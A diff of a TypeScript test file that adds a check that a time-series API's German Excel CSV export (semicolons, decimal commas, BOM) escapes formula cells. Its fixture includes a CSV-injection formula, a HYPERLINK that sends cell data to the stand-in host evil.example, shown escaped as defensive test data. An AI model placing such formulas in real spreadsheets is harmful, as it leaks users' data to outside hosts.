@@ -4,7 +4,8 @@ import { bearer, login } from './support/identity.js';
 import { createTestApp, type TestApp } from './support/test-app.js';
 import { TimeSeriesFixtures } from './support/timeseries-fixtures.js';
 
-// CSV answers of the time-series query: formula cells escaped by default, raw on request.
+// CSV answers of the time-series query: formula cells escaped by default, raw on request, and
+// in the export engine's formats (delimiter, decimal separator, BOM).
 
 const URL = '/xapi/v1/timeseries/query';
 const START = Date.parse('2026-01-01T00:00:00Z');
@@ -87,6 +88,19 @@ describe('time-series query CSV', () => {
       headers,
     });
     expect(viaGet.body).toBe(raw);
+  });
+
+  it('writes German Excel CSV on request: semicolons, decimal commas and a BOM, escaped the same way', async () => {
+    const excel = { query: NOTES, delimiter: ';', decimalSeparator: ',', bom: true };
+    const text = await csv(excel);
+    expect(text.startsWith('\uFEFFtime;note;value\r\n')).toBe(true);
+    expect(text).toContain(`${time(0)};"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";-3,5\r\n`);
+    expect(text).toContain(`${time(3)};'@SUM(1,1);-3\r\n`);
+    const viaGet = await t.app.inject({
+      url: `${URL}?query=${encodeURIComponent(NOTES)}&delimiter=%3B&decimalSeparator=%2C&bom=true`,
+      headers,
+    });
+    expect(viaGet.body).toBe(text);
   });
 
   it('leaves the JSON answer alone', async () => {
